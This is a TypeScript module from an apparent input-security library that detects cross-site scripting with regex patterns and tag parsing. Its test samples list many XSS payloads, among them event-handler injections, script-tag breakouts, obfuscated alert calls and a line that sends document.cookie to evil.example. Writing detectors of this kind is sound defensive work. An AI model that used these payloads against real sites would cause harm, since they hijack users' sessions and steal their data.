import { defineAttack } from '../define-attack.ts';
import { isActiveStyle, isHandler, isScriptUrl, scriptOf } from '../languages/html/scripts.ts';
import { attributesFrom, tagsOf } from '../languages/html/tags.ts';
import { sign } from '../signs.ts';

const reachMax = 1_000;
/** Functions that attackers call to be seen, and objects that they are after. */
const call =
  /(?<!`|[a-z-]-)\b(?:eval|settimeout|setinterval|function(?!\([\w\s,$]{0,80}\)\s{0,2}\{)|fetch|import(?!\(\))|console\.log|atob|print|open|write(?:ln)?)(?:\((?![1-9]\))|`|\?\.\()|(?<!`|[a-z]-)\b(?:alert|confirm|prompt)\s*(?:\(|`|\?\.\()|\]\(\s{0,4}(?:\d|["'`)]|document\b|location\b|window\b|self\b|this\b|origin\b|alert\b)|\[\s{0,4}["'`]constructor["'`]\s{0,4}\]\s{0,4}\(|\breflect\.apply\(\s{0,4}(?:alert|confirm|prompt|eval)\b/i;
const reach =
  /\bdocument(?:\??\.[a-z]|\s*\[)|\bwindow(?:\.[a-z]|\s*\[)|\blocation\s*(?:=[^=]|\[|\.(?:href|hash|assign|replace|search))|\b(?:localstorage|sessionstorage)\b|\bstring\.fromcharcode|\bconstructor\s*[.[(]|\b(?:top|self|this|parent|frames)\s*\[|\bglobalthis\b|\bxmlhttprequest\b|\.cookie\b/i;
/** A call that is all of the text or what is left of a script that it stood in, one by a name that is computed, one in a style. */
const loneCall =
  /^[^a-z]{0,40}(?:[a-z]\w{0,12}=)?(?:(?:alert|confirm|prompt)(?:(?:\?\.)?\(\s{0,4}(?:\d|['"`/]|document\b|location\b|window\b|this\b|origin\b|self\b)|`)|eval\(\s{0,4}(?:\w{1,20}[+.(]|['"`])|(?:reflect\.apply\(|settimeout`|settimeout\(['"`])\s{0,4}(?:alert|confirm|prompt|eval)\b|\[\]\s{0,4}\[[^\]]{1,80}\]\s{0,4}\[\s{0,4}["'`]constructor["'`]|\[\d\]\.\w+\(alert\))|\b(?:top|self|parent|frames|window|globalthis)\s{0,4}\[[^\]]{1,80}\]\s{0,4}\(|[;,}]\s{0,4}(?:alert|confirm|prompt)\(\d{0,6}\)\s{0,2}(?:\/\/|;|$)|\bexpression\s{0,4}\(\s{0,4}(?:alert|confirm|prompt|eval|window|document)/i;
/** A call of the same that does not look like one, and what is read here and sent elsewhere. */
const disguisedCall =
  /^[^a-z]{0,40}(?:\(\s{0,4}(?:alert|confirm|prompt|eval)\s{0,4}\)\s{0,4}\(|(?:alert|confirm|prompt)\.(?:call|apply|bind)\(|(?:window|self|top|parent|frames|globalthis)\s{0,4}(?:\?\.|\.)\s{0,4}\[?['"]?(?:alert|confirm|prompt|eval)\b|with\(document\)|(?:onerror|[a-z])=(?:alert|eval)\s{0,4}[,;]|document\.body\.innerhtml\s{0,4}=\s{0,4}location\b|(?:document\.|window\.|self\.|top\.)?location(?:\.href)?\s{0,4}=[^=].{0,200}(?:document\.cookie|localstorage|sessionstorage)\b)|\]\.\w{1,16}\(\s{0,4}(?:alert|confirm|prompt|eval)\s{0,4}\)|\]\(\s{0,4}data:text\/html/i;
/** `<` in UTF-7, and in ASCII with the eighth bit set, which no text has before a name otherwise. */
const coded = /\+ADw-?\/?[a-z!?]|\u00bc\/?script/i;
/** What leaves a string of JavaScript: the quote, and something that may follow a value. */
const afterString = /^\s*(?:[-+*/%^&|;,)}\]<>=?]|in\b|instanceof\b)/;

/**
 * Markup or script that runs in somebody's browser (CWE-79). The text is read as it is, as what follows an attribute's value, and as what
 * follows a string of JavaScript. Only what runs counts: tags that show something are none.
 */
export const crossSiteScripting = defineAttack({
  id: 'cross-site-scripting',
  title: 'Cross-site scripting',
  cwe: 'CWE-79',
  owasp: 'API8:2023',
  gates: [sign.less | sign.quote | sign.doubleQuote | sign.backtick | sign.paren | sign.colon | sign.equals | sign.plus],
  words: 'document window location localstorage sessionstorage constructor fromcharcode globalthis xmlhttprequest cookie'.split(' '),
  features: {
    'script-tag': 'holds a script',
    'script-named': 'names the tag of scripts',
    'event-handler': 'holds a tag that runs code at an event',
    'script-url': 'holds a link that runs code',
    'foreign-tag': 'holds a tag that brings in another document',
    srcdoc: 'holds a frame with its own document',
    refresh: 'holds a tag that speaks for the server',
    style: 'holds a style that runs code',
    animation: 'holds an animation that changes a link',
    'leaves-attribute': 'closes an attribute and adds one that runs code',
    'leaves-string': 'closes a string of a script and goes on as one',
    template: 'calls a function in a template',
    'script-only': 'is a link that runs code',
    'tag-calls': 'calls a function of the browser where a tag stands that is no script',
    calls: 'calls a function of the browser',
    'lone-call': 'is a call of the browser',
    'sets-cookie': 'sets the cookies of the page',
    'coded-tag': 'writes a tag in UTF-7 or with the eighth bit set',
    reaches: 'reaches for the page or its cookies',
    'script-end': 'ends a script, a style, a title or a comment that it may stand in',
  },
  look({ text, signs }, _field, note) {
    let hasScript = false;
    if ((signs & sign.less) !== 0) {
      let named: { readonly start: number; readonly end: number } | null = null;
      for (const tag of tagsOf(text)) {
        const script = scriptOf(tag);
        if (script?.what === 'script-tag' && isNamed(text, tag.start, tag.end)) named ??= tag;
        else if (script) {
          hasScript ||= script.what === 'script-tag';
          note(script.what, script.at?.start ?? tag.start, script.at?.end ?? tag.end);
        } else if (tag.name === 'style' && isActiveStyle(text.slice(tag.end, tag.end + 400))) note('style', tag.start, tag.end);
      }
      if (named && !hasScript) note('script-named', named.start, named.end);
      const end = /<\/(?:script|style|title|textarea|noscript|xmp|iframe|noembed|template)[\s/>]|-->/i.exec(text);
      if (end && end.index < 400 && !/<(?:script|style|title|textarea|noscript|xmp|iframe|template)|<!--/i.test(text.slice(0, end.index)))
        note('script-end', end.index, end.index + end[0].length);
    }
    for (const quote of ['"', "'", '`'] as const) {
      const at = text.indexOf(quote);
      if (at < 0) continue;
      const added = attributesFrom(text, at + 1).attributes.find((attribute) => isHandler(attribute) && isCode(attribute.value));
      if (added) note('leaves-attribute', at, added.end);
      else if (
        !/[([,{=:]\s*$/.test(text.slice(Math.max(0, at - 8), at)) &&
        afterString.test(text.slice(at + 1, at + 24)) &&
        isCode(text.slice(at + 1, at + 400))
      )
        note('leaves-string', at, text.length);
    }
    const bare =
      (signs & sign.equals) !== 0
        ? attributesFrom(text, 0).attributes.find((attribute) => isHandler(attribute) && isCode(attribute.value))
        : undefined;
    if (bare) note('leaves-attribute', bare.start, bare.end);
    if ((signs & sign.colon) !== 0 && mayBeScriptUrl(text, signs) && isScriptUrl(text.slice(0, 400)))
      note('script-only', 0, Math.min(text.length, 24));
    if ((signs & sign.dollar) !== 0 && /\$\{[^}]{0,200}[(`]/.test(text) && !isOwnTemplate(text) && isCode(text))
      note('template', text.indexOf('${'), text.length);
    if ((signs & (sign.paren | sign.backtick | sign.bracket | sign.dot | sign.equals | sign.less | sign.plus | sign.high)) === 0) return;
    const called = call.exec(text);
    if (called) {
      note('calls', called.index, called.index + called[0].length);
      if (loneCall.test(text) && !isSubject(text, called.index + called[0].length))
        note('lone-call', called.index, called.index + called[0].length);
      if (!hasScript && isInMarkup(text, called.index)) note('tag-calls', called.index, called.index + called[0].length);
    }
    const disguised = disguisedCall.exec(text);
    if (disguised) {
      note('calls', disguised.index, disguised.index + disguised[0].length);
      note('lone-call', disguised.index, disguised.index + disguised[0].length);
    }
    const reached = reach.exec(text);
    if (reached) note('reaches', reached.index, reached.index + reached[0].length);
    if (reached && /document\.cookie\s{0,4}=[^=]/i.test(text)) note('sets-cookie', reached.index, reached.index + reached[0].length);
    const tag = (signs & (sign.plus | sign.high)) === 0 ? null : coded.exec(text);
    if (tag) note('coded-tag', tag.index, tag.index + tag[0].length);
  },
  worst: (length) => '${a'.repeat(Math.ceil(length / 3)).slice(0, length),
  samples: {
    hits: [
      '<script>alert(1)</script>',
      'x<script> tag: alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '"><svg/onload=confirm(1)>',
      '<a href="java\tscript:alert(1)">x</a>',
      '" autofocus onfocus=alert(1) x="',
      "';alert(document.cookie)//",
      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
      'javascript:alert(1)',
      '<details open ontoggle=alert(1)>',
      '${alert(1)}',
      '</script><script src=//evil.example></script>',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      'top["al"+"ert"](1)',
      '+ADw-script+AD4-a()+ADw-/script+AD4-',
      'confirm(1)',
      '&ltscript&gtalert(1)&lt/script&gt',
      '[]["map"]["constructor"]("alert(9)")()',
      'Reflect.apply(alert, null, [9])',
      '(alert)(9)',
      '[9].find(alert)',
      'parent.alert?.(9)',
      "location = '//evil.example/?' + document.cookie",
      '[x](data:text/html;base64,PHN2Zz4=)',
      '<p @click="$emit.constructor`alert(9)`()">x</p>',
      '<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>',
    ],
    misses: [
      '<b>bold</b> and <i>italic</i>',
      'Put it behind the <script> tag, said the guide',
      'Use `<script>` for that.',
      '<a href="https://shop.example/a">link</a>',
      'a < b and c > d',
      'one: two',
      'on time = money',
      'Call me (please)',
      '<3 you',
      'x => x + 1',
      'javascript: the good parts',
      'JavaScript: The Definitive Guide, 7th edition',
      'the alert (red) is on',
      '<img src="a.png" alt="a">',
      'Alert(s) by mail',
      'alert("hello") shows a box',
      'When I type <script> the editor eats it',
      'prompt (yes or no)',
      'a+b',
      'See the [`docs/`](docs/a.md) and [more](more.md).',
      "client.get('/users').then((users) => {\n  console.log(users);\n});",
      'if (a < 1) {\n  b();\n}\n\nconsole.log(a);',
      'console.log(`${user.name()} is here`)',
      'A <remote> is described in site-fetch(1) and fetch(2).',
      'No <code>&lt;script&gt;</code>, please',
      'min=2&lt=9&gtm_id=5',
      '<button @click="save(order)">Save</button>',
      'Its prototype has a ["constructor"] as well',
      'Make <script> in the head behave (again)',
      'It loads <script> and <style> tags (twice)',
      'follows redirects in <meta http-equiv="refresh"> tags',
      '<button onClick={() => save(order)}>Save</button>',
      '<form onSubmit={handleSubmit}>',
      'In a `<List>`, the `fetch` requests of `import()` are shared',
      "document.write(label('May'));",
      'const raw = window.atob(text);',
      'Shows a popup by window.open()',
      'console.log(window.innerHeight);',
      'With `--import` or `--require` it loads (twice)',
      'Bring <script setup> to the second version (again)',
      'the attribute **`hx-confirm`** of `<div>` asks',
    ],
  },
});

const namedReach = 400;

/**
 * Somebody speaks of the tag: between the backticks of markdown, alone in a piece of code, or as a word of a sentence. Two words with nothing between
 * them are no script, whatever follows: a browser runs nothing of what it cannot read whole.
 */
function isNamed(text: string, start: number, end: number): boolean {
  if (text.charCodeAt(start - 1) === 0x60 && text.charCodeAt(end) === 0x60) return true;
  if (/<(?:code|kbd|tt)>$/.test(text.slice(Math.max(0, start - 6), start)) && text.startsWith('</', end)) return true;
  const rest = text.slice(end, end + namedReach);
  return (
    /^ (?:tags?|elements?|blocks?)\b/.test(rest) ||
    (/^<script(?:\s+[a-z]{1,12}){0,3}>$/i.test(text.slice(start, end)) && noScript.test(rest))
  );
}

const noScript =
  /^[,;]?\s{1,4}(?!(?:var|let|const|new|return|throw|typeof|void|delete|await|async|import|export|function|class|yield|if|else|do|while|for|try)\b)\p{L}+(?:-\p{L}+){0,3} {1,3}(?:<|\p{L})/u;

/** Words go on behind the call, as a sentence about it does. */
function isSubject(text: string, from: number): boolean {
  return /^[^()]{0,80}\)+ (?:\p{L}+ )+\p{L}/u.test(text.slice(from, from + 160));
}

/** A tag or a script's scheme stands before the call, within reach of it and with no end of a block of text or code between them. */
function isInMarkup(text: string, at: number): boolean {
  const lead = text.slice(Math.max(0, at - reachMax), at + 1);
  const opened = lead.search(/(?<!\w)<[a-z!?/%]|(?:java|vb)script:/i);
  return opened >= 0 && !/\n[ \t\r]{0,8}\n|```/.test(lead.slice(opened));
}

/** The template is one of a program that the text holds: it opens behind a parenthesis, a sign of assignment or a word of the language. */
function isOwnTemplate(text: string): boolean {
  const at = text.indexOf('${');
  return /(?:[(=,[]|\breturn)\s*`[^`]*$/.test(text.slice(Math.max(0, at - reachMax), at));
}

/** Holds a call, an assignment to a place of the browser, or a reach for it. */
function isCode(text: string): boolean {
  return call.test(text) || reach.test(text);
}

/** Whatever hides a scheme needs one of the signs. */
function mayBeScriptUrl(text: string, signs: number): boolean {
  const hides = sign.blank | sign.lineBreak | sign.control | sign.nul | sign.ampersand | sign.high;
  return (signs & hides) !== 0 || /script:|mocha:|data:/i.test(text.slice(0, 400));
}
